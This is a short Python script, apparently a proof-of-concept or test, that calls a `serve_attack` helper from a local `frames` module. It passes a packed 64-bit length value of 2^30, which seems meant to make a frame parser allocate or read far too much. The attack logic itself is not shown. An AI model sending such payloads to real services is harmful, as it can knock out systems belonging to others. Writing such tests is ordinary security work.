import struct

from frames import serve_attack

serve_attack(struct.pack("<Q", 1 << 30))
